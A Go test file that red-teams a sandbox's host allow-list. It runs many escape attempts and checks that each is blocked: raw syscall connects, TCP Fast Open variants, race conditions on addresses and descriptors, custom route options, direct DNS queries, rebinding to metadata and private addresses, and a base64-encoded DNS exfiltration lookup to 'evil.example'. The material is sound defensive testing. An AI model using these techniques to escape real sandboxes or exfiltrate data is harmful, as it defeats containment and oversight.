package sandbox_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"hcpx/internal/sandbox"
	"hcpx/internal/sandbox/redteamtest"
	"hcpx/internal/sandbox/sandboxtest"
)

// hostsArg is the first argument that turns the test binary into a program that wants to leave a list of hosts.
const hostsArg = "sandbox-hosts"

// leaver runs one attempt when the process was started for it. Exit 0 says that it worked.
func leaver() {
	if len(os.Args) < 3 || os.Args[1] != hostsArg {
		return
	}
	runtime.LockOSThread()
	if err := leaving()[os.Args[2]](os.Args[3:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		syscall.Exit(1)
	}
	syscall.Exit(0)
}

// leaving are the ways out that ignore the proxy and the resolver; the first argument is address:port.
func leaving() map[string]func([]string) error {
	return map[string]func([]string) error{
		"connect":  func(a []string) error { return stream(unix.SOCK_STREAM, a[0], true) },
		"nonblock": func(a []string) error { return stream(unix.SOCK_STREAM|unix.SOCK_NONBLOCK, a[0], true) },
		"mapped":   func(a []string) error { return stream(unix.SOCK_STREAM, a[0], false) },
		"zone":     zoned,
		"thread": func(a []string) error {
			done := make(chan error)
			go func() { runtime.LockOSThread(); done <- stream(unix.SOCK_STREAM, a[0], true) }()
			return <-done
		},
		"hidden": func(a []string) error {
			return errors.Join(unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0), stream(unix.SOCK_STREAM, a[0], true))
		},
		"multipath":        func(a []string) error { return streamOf(unix.IPPROTO_MPTCP, a[0]) },
		"fastopen-sendto":  func(a []string) error { return fastOpen(a[0], unix.SYS_SENDTO) },
		"fastopen-sendmsg": func(a []string) error { return fastOpen(a[0], unix.SYS_SENDMSG) },
		"fastopen-many":    func(a []string) error { return fastOpen(a[0], unix.SYS_SENDMMSG) },
		"fastopen-connect": fastOpenConnect,
		"linger":           linger,
		"linger-options":   lingerOptions,
		"handle":           handleOfPeer,
		"many":             manyConnects,
		"datagram":         func(a []string) error { return datagram(a[0], false) },
		"datagram-connect": func(a []string) error { return datagram(a[0], true) },
		"listen":           func([]string) error { return listen() },
		"reconnect":        reconnect,
		"race-address":     raceAddress,
		"race-descriptor":  raceDescriptor,
		"option":           option,
		"bad-addresses":    badAddresses,
		"say":              say,
		"ask":              askNames,
		"ask-stream":       askStream,
	}
}

// sockaddr writes an address for the kernel; four makes IPv4 of what is IPv4.
func sockaddr(at string, four bool) (family int, raw []byte) {
	to := netip.MustParseAddrPort(at)
	port := binary.BigEndian.AppendUint16(nil, to.Port())
	if four && to.Addr().Is4() {
		raw = append(binary.NativeEndian.AppendUint16(nil, unix.AF_INET), port...)
		return unix.AF_INET, append(append(raw, to.Addr().AsSlice()...), make([]byte, 8)...)
	}
	addr := to.Addr().As16()
	raw = append(binary.NativeEndian.AppendUint16(nil, unix.AF_INET6), port...)
	return unix.AF_INET6, append(append(append(raw, make([]byte, 4)...), addr[:]...), make([]byte, 4)...)
}

func connectRaw(fd int, raw []byte, size int) error {
	_, _, no := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(unsafe.SliceData(raw))), uintptr(size))
	if no != 0 {
		return no
	}
	return nil
}

// stream connects and gets the greeting of a server.
func stream(kind int, at string, four bool) error {
	family, raw := sockaddr(at, four)
	fd, err := unix.Socket(family, kind, 0)
	if err != nil {
		return err
	}
	return greeted(fd, connectRaw(fd, raw, len(raw)))
}

// zoned is stream with a zone in the address, that of the first interface.
func zoned(a []string) error {
	family, raw := sockaddr(a[0], false)
	binary.NativeEndian.PutUint32(raw[24:], 1)
	fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	return greeted(fd, connectRaw(fd, raw, len(raw)))
}

func greeted(fd int, err error) error {
	if errors.Is(err, unix.EINPROGRESS) {
		_, err = unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, 5000)
		if err == nil {
			var no int
			if no, err = unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR); no != 0 {
				err = unix.Errno(no)
			}
		}
	}
	if err != nil {
		return err
	}
	if _, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}, 5000); err != nil {
		return err
	}
	text := make([]byte, 8)
	if n, err := unix.Read(fd, text); err != nil || string(text[:max(n, 0)]) != "hello" {
		return fmt.Errorf("no greeting: %q, %v", text[:max(n, 0)], err)
	}
	return nil
}

func streamOf(protocol int, at string) error {
	family, raw := sockaddr(at, true)
	fd, err := unix.Socket(family, unix.SOCK_STREAM, protocol)
	if err != nil {
		return err
	}
	return greeted(fd, connectRaw(fd, raw, len(raw)))
}

// fastOpen connects by sending.
func fastOpen(at string, by uintptr) error {
	family, raw := sockaddr(at, true)
	fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	data := []byte("x")
	iov := unix.Iovec{Base: &data[0], Len: 1}
	type message struct {
		head unix.Msghdr
		size uint32
		_    [4]byte
	}
	m := message{head: unix.Msghdr{Name: &raw[0], Namelen: uint32(len(raw)), Iov: &iov}}
	m.head.SetIovlen(1)
	var no unix.Errno
	switch by {
	case unix.SYS_SENDTO:
		_, _, no = unix.Syscall6(by, uintptr(fd), uintptr(unsafe.Pointer(&data[0])), 1, unix.MSG_FASTOPEN, uintptr(unsafe.Pointer(&raw[0])), uintptr(len(raw)))
	case unix.SYS_SENDMSG:
		_, _, no = unix.Syscall(by, uintptr(fd), uintptr(unsafe.Pointer(&m)), unix.MSG_FASTOPEN)
	default:
		_, _, no = unix.Syscall6(by, uintptr(fd), uintptr(unsafe.Pointer(&m)), 1, unix.MSG_FASTOPEN, 0, 0)
	}
	if no != 0 {
		return no
	}
	return greeted(fd, nil)
}

// fastOpenConnect puts the connecting off until the first byte.
func fastOpenConnect(a []string) error {
	family, raw := sockaddr(a[0], true)
	fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
		return err
	}
	if err := connectRaw(fd, raw, len(raw)); err != nil {
		return err
	}
	if _, err := unix.Write(fd, []byte("x")); err != nil {
		return err
	}
	return greeted(fd, nil)
}

// datagram sends one and waits for its echo.
func datagram(at string, connect bool) error {
	family, raw := sockaddr(at, true)
	fd, err := unix.Socket(family, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	if connect {
		if err := connectRaw(fd, raw, len(raw)); err != nil {
			return err
		}
		raw = nil
	}
	data := []byte("a datagram that is no question for a name")
	if _, _, no := unix.Syscall6(unix.SYS_SENDTO, uintptr(fd), uintptr(unsafe.Pointer(&data[0])), uintptr(len(data)), 0,
		uintptr(unsafe.Pointer(unsafe.SliceData(raw))), uintptr(len(raw))); no != 0 {
		return no
	}
	if n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}, 1000); n == 0 || err != nil {
		return fmt.Errorf("no echo: %v", err)
	}
	got := make([]byte, 100)
	if n, err := unix.Read(fd, got); err != nil || !bytes.Equal(got[:n], data) {
		return fmt.Errorf("no echo: %x, %v", got[:max(n, 0)], err)
	}
	return nil
}

func listen() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if unix.Listen(fd, 1) == nil { // binds by itself
		return nil
	}
	return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}})
}

// reconnect connects to the first address, undoes that, and connects to the second.
func reconnect(a []string) error {
	family, raw := sockaddr(a[0], true)
	fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := greeted(fd, connectRaw(fd, raw, len(raw))); err != nil {
		return fmt.Errorf("the listed one: %w", err)
	}
	_ = connectRaw(fd, make([]byte, 16), 16) // AF_UNSPEC
	_, raw = sockaddr(a[1], true)
	return greeted(fd, connectRaw(fd, raw, len(raw)))
}

// raceAddress changes the address while it is read. The server of the second one counts.
func raceAddress(a []string) error {
	_, good := sockaddr(a[0], true)
	_, bad := sockaddr(a[1], true)
	place := slices.Clone(good)
	var stop atomic.Bool
	go func() {
		runtime.LockOSThread()
		for !stop.Load() {
			copy(place, bad)
			copy(place, good)
		}
	}()
	err := unix.EACCES
	for end := time.Now().Add(time.Second); err != 0 && time.Now().Before(end); {
		fd, e := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if e != nil {
			return e
		}
		if connectRaw(fd, place, len(place)) == nil {
			if peer, e := unix.Getpeername(fd); e == nil && strconv.Itoa(peer.(*unix.SockaddrInet4).Port) == a[1][strings.LastIndexByte(a[1], ':')+1:] {
				err = 0
			}
		}
		_ = unix.Close(fd)
	}
	stop.Store(true)
	if err == 0 {
		return nil
	}
	return err
}

// raceDescriptor changes what stands under the number while it is connected, between a TCP socket and one that the
// runtime gave.
func raceDescriptor(a []string) error {
	_, bad := sockaddr(a[0], true)
	other, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	var stop atomic.Bool
	tcp, err := unix.Dup(fd)
	if err != nil {
		return err
	}
	go func() {
		runtime.LockOSThread()
		for !stop.Load() {
			_ = unix.Dup3(other, fd, 0)
			_ = unix.Dup3(tcp, fd, 0)
		}
	}()
	for end := time.Now().Add(time.Second); time.Now().Before(end); {
		if connectRaw(fd, bad, len(bad)) == nil {
			if _, err := unix.Getpeername(tcp); err == nil {
				stop.Store(true)
				return nil
			}
		}
	}
	stop.Store(true)
	return unix.EACCES
}

// option sets a socket option: family, level, number, value in hex.
func option(a []string) error {
	family, _ := strconv.Atoi(a[0])
	level, _ := strconv.Atoi(a[1])
	number, _ := strconv.Atoi(a[2])
	value, err := hex.DecodeString(a[3])
	if err != nil {
		return err
	}
	fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	return unix.SetsockoptString(fd, level, number, string(value))
}

// badAddresses is an attack on the reader: nothing works, and a good address still does.
func badAddresses(a []string) error {
	_, raw := sockaddr(a[0], true)
	_, six := sockaddr(a[0], false)
	scoped := slices.Clone(six)
	scoped[24] = 1
	for i, bad := range [][]byte{nil, raw[:1], raw[:2], raw[:4], raw[:15], make([]byte, 16), six, six[:27], scoped, append([]byte{1, 0}, "/tmp/x"...), make([]byte, 200)} {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		if connectRaw(fd, bad, len(bad)) == nil {
			return fmt.Errorf("address %d connects", i)
		}
		if connectRaw(fd, raw, 1<<31) == nil || connectRaw(fd, raw, -1) == nil {
			return fmt.Errorf("address %d connects with a size of its own", i)
		}
		_ = unix.Close(fd)
	}
	for _, fd := range []int{-1, 0, 1, 9999} {
		if connectRaw(fd, raw, len(raw)) == nil {
			return fmt.Errorf("descriptor %d connects", fd)
		}
	}
	return stream(unix.SOCK_STREAM, a[0], true)
}

// say sends text to an address and prints what comes back.
func say(a []string) error {
	c, err := net.Dial("tcp", a[0])
	if err != nil {
		return err
	}
	if _, err := io.WriteString(c, strings.ReplaceAll(a[1], "~", "\r\n")); err != nil {
		return err
	}
	_, err = io.Copy(os.Stdout, c)
	return err
}

// query is a question for the address of a name.
func query(name string) []byte {
	msg := []byte{1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		msg = append(append(msg, byte(len(label))), label...)
	}
	return append(msg, 0, 0, 1, 0, 1)
}

// askNames asks a name server at an address, by datagram, for a name; an address in the answer is success.
func askNames(a []string) error {
	family, raw := sockaddr(a[0], true)
	fd, err := unix.Socket(family, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	q := query(a[1])
	if _, _, no := unix.Syscall6(unix.SYS_SENDTO, uintptr(fd), uintptr(unsafe.Pointer(&q[0])), uintptr(len(q)), 0, uintptr(unsafe.Pointer(&raw[0])), uintptr(len(raw))); no != 0 {
		return no
	}
	if n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}, 2000); n == 0 || err != nil {
		return fmt.Errorf("no answer: %v", err)
	}
	got := make([]byte, 600)
	n, err := unix.Read(fd, got)
	return answered(got[:max(n, 0)], err)
}

func askStream(a []string) error {
	c, err := net.Dial("tcp", a[0])
	if err != nil {
		return err
	}
	q := query(a[1])
	if _, err := c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)); err != nil {
		return err
	}
	got := make([]byte, 600)
	n, err := c.Read(got)
	return answered(got[min(2, n):n], err)
}

func answered(got []byte, err error) error {
	if err != nil || len(got) < 12 || got[3]&15 != 0 || got[7] == 0 {
		return fmt.Errorf("no address: %x, %v", got, err)
	}
	return nil
}

// counted is a server that greets, and counts whom it greeted.
func counted(t *testing.T, at string) (address string, count *atomic.Int64) {
	t.Helper()
	listener, err := net.Listen("tcp", at)
	must(t, err)
	t.Cleanup(func() { _ = listener.Close() })
	count = new(atomic.Int64)
	go func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return
			}
			count.Add(1)
			go func() {
				_, _ = io.WriteString(c, "hello")
				_, _ = io.Copy(io.Discard, c)
				_ = c.Close()
			}()
		}
	}()
	return listener.Addr().String(), count
}

// echo is a server of datagrams that counts what it gets.
func echo(t *testing.T) (address string, count *atomic.Int64) {
	t.Helper()
	c, err := net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	t.Cleanup(func() { _ = c.Close() })
	count = new(atomic.Int64)
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := c.ReadFrom(buf)
			if err != nil {
				return
			}
			count.Add(1)
			_, _ = c.WriteTo(buf[:n], from)
		}
	}()
	return c.LocalAddr().String(), count
}

// wayOut is one attempt: it works outside, unless the machine lacks it, and does not work inside.
type wayOut struct {
	name string
	verb string
	args []string
	lack string // what the control may say instead of working
	deny string // what must be on record inside, "" = nothing
}

// §10.2, RT30 to RT34: a program that ignores the proxy variables and the resolver reaches nothing but the list.
func Test_10_2_hosts_attacks(t *testing.T) {
	redteamtest.Users(t, func(t *testing.T, place string) {
		for _, p := range looked() {
			place := inPosture(t, place, p)
			t.Run(p.name, func(t *testing.T) { newHostWorld(t, place).attacks() })
		}
	})
}

func (w *hostWorld) attacks() {
	t := w.t
	self, err := os.Executable()
	must(t, err)
	program := sandbox.Program{Name: "leaver", Path: self}
	good, welcome := counted(t, "127.0.0.1:0")
	bad, seen := counted(t, "127.0.0.1:0")
	other, elsewhere := counted(t, "127.0.0.2:0")
	udp, datagrams := echo(t)
	port := func(at string) string { return at[strings.LastIndexByte(at, ':')+1:] }
	list := append(hosts(port(good)), "127.0.0.1:"+port(udp), "absent.example.test:80")
	loopback := func(at string) string { return "connect " + at + ": loopback address" }
	// settled is whom the servers have met, once nobody is left in their queues.
	settled := func() [3]int64 {
		counts := func() [3]int64 { return [3]int64{seen.Load(), elsewhere.Load(), datagrams.Load()} }
		for was := counts(); ; {
			time.Sleep(30 * time.Millisecond)
			now := counts()
			if now == was {
				return now
			}
			was = now
		}
	}
	ordinary := "" // what only root may do outside
	if os.Getuid() != 0 {
		ordinary = "operation not permitted"
	}
	rows := []wayOut{
		{"another port of a listed address", "connect", []string{bad}, "", loopback(bad)},
		{"the same without waiting", "nonblock", []string{bad}, "", loopback(bad)},
		{"as a mapped address", "mapped", []string{bad}, "", loopback(bad)},
		{"from another thread", "thread", []string{bad}, "", loopback(bad)},
		{"from a process that hides itself", "hidden", []string{bad}, "", ""},
		{"another address of the loopback", "connect", []string{other}, "", loopback(other)},
		{"the unspecified address", "connect", []string{"0.0.0.0:" + port(bad)}, "", "connect 0.0.0.0:" + port(bad) + ": unspecified address"},
		{"the unspecified address with a listed port", "connect", []string{"0.0.0.0:" + port(good)}, "", "connect 0.0.0.0:" + port(good) + ": unspecified address"},
		{"multipath TCP", "multipath", []string{bad}, "not supported|not available", ""},
		{"fast open by sendto", "fastopen-sendto", []string{bad}, "not supported", ""},
		{"fast open by sendmsg", "fastopen-sendmsg", []string{bad}, "not supported", ""},
		{"fast open by sendmmsg", "fastopen-many", []string{bad}, "not supported", ""},
		{"fast open by sendto to a listed address", "fastopen-sendto", []string{good}, "not supported", ""},
		{"fast open by an option", "fastopen-connect", []string{bad}, "not supported", ""},
		{"fast open by an option to a listed address", "fastopen-connect", []string{good}, "not supported", ""},
		{"a datagram", "datagram", []string{udp}, "", ""},
		{"a datagram on a connected socket", "datagram-connect", []string{udp}, "", ""},
		{"listening", "listen", nil, "", "bind of a socket"},
		{"disconnecting", "reconnect", []string{good, bad}, "", loopback(bad)},
		{"changing the address meanwhile", "race-address", []string{good, bad}, "", ""},
		{"changing the descriptor meanwhile", "race-descriptor", []string{bad}, "", ""},
		{"a route of its own", "option", []string{"2", "0", "4", "8307040a00000100"}, ordinary, ""},
		{"a route of its own, IPv6", "option", []string{"10", "41", "57", "0002020100000000" + "20010db8000000000000000000000001"}, "invalid argument|not supported", ""},
		{"an interface of its own", "option", []string{"2", "1", "25", "6c6f00"}, "", ""},
		{"no gateway", "option", []string{"2", "1", "5", "01000000"}, "", ""},
	}
	for name, at := range map[string]string{"an address with a zone": "[::1]", "a listed address with a zone": "127.0.0.1"} {
		listener, err := net.Listen("tcp", at+":0")
		if err != nil { // no IPv6 here
			t.Logf("void: %s: %v", name, err)
			continue
		}
		must(t, listener.Close())
		server, _ := counted(t, at+":0")
		list = append(list, server)
		rows = append(rows, wayOut{name, "zone", []string{server}, "", "connect " + map[bool]string{true: "[::ffff:127.0.0.1%1]", false: "[::1%1]"}[at != "[::1]"] + ":" + port(server) + ": an address with a zone"})
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			before := settled()
			control := exec.Command(self, append([]string{hostsArg, row.verb}, row.args...)...)
			if out, err := control.CombinedOutput(); err != nil {
				if row.lack == "" || !slices.ContainsFunc(strings.Split(row.lack, "|"), func(s string) bool { return strings.Contains(string(out), s) }) {
					t.Fatalf("void: it does not work outside: %s", out)
				}
				t.Logf("void: it does not work outside: %s", out)
			} else if strings.Contains(row.deny, "connect 127") && before == settled() {
				t.Errorf("nobody was reached outside")
			}
			before = settled()
			o := sandboxtest.Exec(t, w.sandbox, w.spec(list, program, append([]string{hostsArg, row.verb}, row.args...)...))
			if o.Exit == 0 || len(o.Stderr) == 0 {
				t.Errorf("it worked: %+v", o)
			}
			if now := settled(); now != before {
				t.Errorf("servers were reached: %v, before %v", now, before)
			}
			if row.deny != "" && !slices.Contains(o.Denied, row.deny) {
				t.Errorf("denied %q, want %q", o.Denied, row.deny)
			}
		})
	}
	for _, verb := range []string{"connect", "nonblock", "mapped", "thread", "bad-addresses", "linger-options"} {
		before := welcome.Load()
		if o := sandboxtest.Exec(t, w.sandbox, w.spec(list, program, hostsArg, verb, good)); o.Exit != 0 || welcome.Load() == before {
			t.Errorf("%s: the listed address is not reached: %s %q", verb, o.Stderr, o.Denied)
		}
	}
}

// §10.2, RT30: names are no way out: whoever is asked, by whatever way, it is the runtime that answers, for listed
// names alone.
func Test_10_2_hosts_names_are_no_way_out(t *testing.T) {
	w := newHostWorld(t, t.TempDir())
	w.names["inner.example.test"] = []string{"127.0.0.1", "169.254.169.254", "10.1.2.3"}
	self, err := os.Executable()
	must(t, err)
	program := sandbox.Program{Name: "leaver", Path: self}
	list := []string{named + ":443", "127.0.0.1:443", "inner.example.test:80", "absent.example.test:80"}
	for _, verb := range []string{"ask", "ask-stream"} {
		servers := []string{"127.0.0.1:53", "127.0.0.53:53"}
		if verb == "ask" {
			servers = append(servers, "8.8.8.8:53", "9.9.9.9:853")
		}
		for _, server := range servers {
			for name, want := range map[string]string{named: "", "c2VjcmV0.evil.example": "name c2vjcmv0.evil.example", "x." + named: "name x." + named,
				"inner.example.test": "name inner.example.test: loopback address 127.0.0.1", "absent.example.test": "-"} {
				o := sandboxtest.Exec(t, w.sandbox, w.spec(list, program, hostsArg, verb, server, name))
				if (o.Exit == 0) != (want == "") || len(want) > 1 && !slices.Contains(o.Denied, want) {
					t.Errorf("%s %s %s: exit %d, %s, denied %q, want %q", verb, server, name, o.Exit, o.Stderr, o.Denied, want)
				}
			}
		}
	}
	o := sandboxtest.Exec(t, w.sandbox, w.spec(list, program, hostsArg, "ask-stream", "8.8.8.8:53", named))
	if o.Exit == 0 || !slices.Contains(o.Denied, "connect 8.8.8.8:53: not listed") {
		t.Errorf("another name server: %+v", o)
	}
	close(w.asked)
	for name := range w.asked {
		if name != named && name != "inner.example.test" && name != "absent.example.test" {
			t.Errorf("outside was asked for %s", name)
		}
	}
}

// §10.2, RT34: a name that leads inside is not followed, neither is a redirect to what is not listed.
func Test_10_2_hosts_rebinding_and_redirects(t *testing.T) {
	w := newHostWorld(t, t.TempDir())
	port, curl := w.web(), tool(t, "curl")
	for _, addr := range []string{"127.0.0.1", "169.254.169.254", "10.1.2.3", "::1", "192.168.0.1"} {
		name := "bound.example.test"
		w.names[name] = []string{addr}
		for _, args := range [][]string{nil, {"--noproxy", "*"}, {"--proxytunnel"}, {"-x", "socks5h://127.0.0.1:61080"}} {
			o := sandboxtest.Exec(t, w.sandbox, w.spec([]string{name + ":" + port}, curl, append([]string{"-sS", "http://" + name + ":" + port + "/"}, args...)...))
			if o.Exit == 0 || len(o.Stdout) > 0 || len(o.Denied) != 1 || !strings.HasPrefix(o.Denied[0], "name "+name+": ") || !strings.HasSuffix(o.Denied[0], addr) {
				t.Errorf("%s %v: exit %d, %q, denied %q", addr, args, o.Exit, o.Stdout, o.Denied)
			}
		}
	}
	secret := w.web()
	from := "http://" + named + ":" + port + "/?to=http://" + named + ":" + secret + "/"
	for _, args := range [][]string{nil, {"--noproxy", "*"}} {
		all := append([]string{"-sS", "-L", from}, args...) // no -f: a refusal fails by itself
		w.gets(w.spec(hosts(port, secret), curl, all...), "host "+named+":"+secret)
		o := sandboxtest.Exec(t, w.sandbox, w.spec(hosts(port), curl, all...))
		want := "connect " + named + ":" + secret + ": not listed"
		if args != nil {
			want = "connect 127.0.0.1:" + secret + ": loopback address"
		}
		if o.Exit == 0 || len(o.Stdout) > 0 || !slices.Contains(o.Denied, want) {
			t.Errorf("redirect %v: exit %d, %q, denied %q", args, o.Exit, o.Stdout, o.Denied)
		}
	}
	o := sandboxtest.Exec(t, w.sandbox, w.spec(hosts(port), curl, "-sS", "--proxytunnel", "http://"+named+":"+secret+"/"))
	if want := "connect " + named + ":" + secret + ": not listed"; o.Exit == 0 || !slices.Contains(o.Denied, want) {
		t.Errorf("tunnel to another port: exit %d, denied %q", o.Exit, o.Denied)
	}
}

// §10.2: what the command says to the proxy without its protocol leads nowhere; outside of the run there is no proxy.
func Test_10_2_hosts_proxy_is_inside_only(t *testing.T) {
	w := newHostWorld(t, t.TempDir())
	self, err := os.Executable()
	must(t, err)
	program := sandbox.Program{Name: "leaver", Path: self}
	bad, seen := counted(t, "127.0.0.1:0")
	for said, want := range map[string]string{
		"GET / HTTP/1.1~Host: " + bad + "~~":         "HTTP/1.1 400",
		"nonsense~~":                                 "HTTP/1.1 400",
		"CONNECT " + bad + " HTTP/1.1~~":             "HTTP/1.1 403",
		"GET http://" + bad + "/ HTTP/1.0~Host: x~~": "HTTP/1.1 403",
	} {
		o := sandboxtest.Exec(t, w.sandbox, w.spec(hosts("1"), program, hostsArg, "say", "127.0.0.1:61080", said))
		if o.Exit != 0 || !strings.HasPrefix(string(o.Stdout), want) {
			t.Errorf("%q: exit %d, %q %s, want %q", said, o.Exit, o.Stdout, o.Stderr, want)
		}
	}
	if seen.Load() > 0 {
		t.Error("the server was reached")
	}
	// While a command is connected to the proxy, nobody else can be.
	box, refused := w.sandbox.Prepare(w.spec(hosts("1"), program, hostsArg, "say", "127.0.0.1:61080", "CONN"))
	if refused != nil {
		t.Fatal(refused)
	}
	defer box.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 700*time.Millisecond)
	defer cancel()
	done := make(chan *sandbox.Outcome)
	go func() { o, _ := box.Run(ctx); done <- o }()
	for {
		select {
		case o := <-done:
			if o == nil || !o.Canceled {
				t.Errorf("%+v", o)
			}
			return
		default:
			if c, err := net.Dial("tcp", "127.0.0.1:61080"); err == nil {
				t.Error("the proxy answers outside of the run")
				_ = c.Close()
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
}
